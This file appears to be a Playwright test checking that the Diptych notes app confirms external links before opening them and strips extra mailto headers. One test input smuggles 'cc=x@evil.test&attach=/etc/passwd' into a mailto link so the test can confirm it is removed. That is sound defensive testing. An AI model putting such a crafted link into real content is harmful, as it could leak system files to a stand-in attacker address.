/** Links in a note open outside Diptych only once confirmed, and a mail link loses its extra headers. */
import { NotesPage } from './pages/NotesPage';
import { WorkbenchPage } from './pages/WorkbenchPage';
import { expect, test } from './support/fixtures';

test('an external link asks first, names its target, and a mail link keeps only subject and body', async ({
  app,
  hostKind,
}) => {
  await new WorkbenchPage(app.page).waitUntilOpen();
  const notes = new NotesPage(app.page);
  await notes.waitUntilOpen();
  await notes.typeAtEnd(
    '[the report](https://example.org/report) and [write to me](mailto:analyst@example.org?subject=Brief&cc=x@evil.test&attach=/etc/passwd&body=Hi)',
  );
  await expect(notes.status).toHaveText('Saved');
  const mail = notes.preview.getByRole('link', { name: 'write to me' });
  await expect(mail).toHaveAttribute('href', 'mailto:analyst@example.org?subject=Brief&body=Hi');

  // Declined: nothing opens.
  const asked: string[] = [];
  app.page.once('dialog', (dialog) => {
    asked.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const popups: string[] = [];
  app.page.context().on('page', (page) => popups.push(page.url()));
  await notes.preview.getByRole('link', { name: 'the report' }).click();
  await expect
    .poll(() => asked)
    .toEqual(['confirm: Open this link outside Diptych?\n\nhttps://example.org/report']);
  expect(popups).toEqual([]);

  test.skip(hostKind === 'electron', 'the desktop shell hands an accepted link to the OS');
  // Accepted: it opens in a new tab (answered here, since nothing may leave the machine).
  await app.page
    .context()
    .route('https://example.org/**', (route) =>
      route.fulfill({ body: 'report', contentType: 'text/plain' }),
    );
  app.page.once('dialog', (dialog) => void dialog.accept());
  const opened = app.page.context().waitForEvent('page');
  await notes.preview.getByRole('link', { name: 'the report' }).click();
  await expect.poll(async () => (await opened).url()).toBe('https://example.org/report');
});
